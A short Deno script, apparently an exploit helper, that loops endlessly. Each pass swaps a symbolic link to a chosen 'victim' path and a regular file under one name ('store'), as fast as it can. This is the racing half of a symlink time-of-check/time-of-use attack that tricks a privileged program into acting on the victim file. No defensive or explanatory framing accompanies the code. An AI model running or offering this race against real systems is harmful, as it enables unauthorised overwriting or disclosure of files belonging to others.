/** Puts a link to the victim and a regular file in turn under one name, as fast as it can, until killed. */
const [folder = "", victim = ""] = Deno.args;
for (;;) {
  Deno.symlinkSync(victim, `${folder}/next`);
  Deno.renameSync(`${folder}/next`, `${folder}/store`);
  Deno.writeTextFileSync(`${folder}/next`, "ours", { mode: 0o600, createNew: true });
  Deno.renameSync(`${folder}/next`, `${folder}/store`);
}
